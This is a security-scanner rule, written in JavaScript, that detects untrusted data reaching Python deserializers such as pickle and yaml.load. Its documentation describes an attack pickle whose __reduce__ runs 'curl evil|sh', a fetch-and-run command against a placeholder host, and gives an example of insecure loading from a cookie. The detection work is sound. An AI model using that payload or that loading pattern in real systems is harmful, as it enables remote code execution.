// tainted-deserialization: follows untrusted input to `pickle`, `marshal`, `dill`, `jsonpickle`, `shelve`, unsafe `yaml.load` and `torch.load` (data flow).
import { defineTaintRule } from '../../src/analysis/taint/define-taint-rule.js';

export default defineTaintRule({
  id: 'tainted-deserialization',
  title: 'Untrusted data deserialized',
  category: 'deserialization',
  cwe: ['CWE-502'],
  owasp: { '2021': ['A08:2021'], '2025': ['A08:2025'] },
  severity: 'critical',
  riskScore: 9,
  confidence: 'high',
  threat: 'integrity',
  timeline: 'immediate',
  technology: ['pickle', 'yaml', 'marshal', 'dill', 'jsonpickle'],
  aliases: { bandit: ['B301', 'B506'], ruff: ['S301', 'S506'] },
  taint: { sinks: ['deserialization'], messageId: 'tainted' },
  messages: {
    tainted:
      'Untrusted data from `{{source}}` (line {{sourceLine}}) is deserialized by `{{sink}}`, which can run code; use JSON or a safe loader.',
  },
  docs: {
    whatItDoes:
      'Follows untrusted input to `pickle`, `marshal`, `dill`, `jsonpickle`, `shelve`, unsafe `yaml.load` and `torch.load`.',
    whyBad:
      'These formats rebuild arbitrary objects; a crafted payload calls any function during loading (`__reduce__`).',
    businessImpact: 'Remote code execution from a single request.',
    attackScenario:
      'The attacker base64-encodes a pickle whose `__reduce__` returns `(os.system, ("curl evil|sh",))` and posts it as the session blob.',
    example: 'data = pickle.loads(base64.b64decode(request.cookies["state"]))',
    useInstead: 'data = json.loads(request.cookies["state"])  # plus an HMAC check',
    testing: 'Send a pickle payload that writes a marker file and assert the file is not created.',
    knownProblems: 'Data signed with an HMAC before loading is still reported when the check is done in a helper.',
    references: [
      'https://cwe.mitre.org/data/definitions/502.html',
      'https://docs.python.org/3/library/pickle.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html',
    ],
  },
});
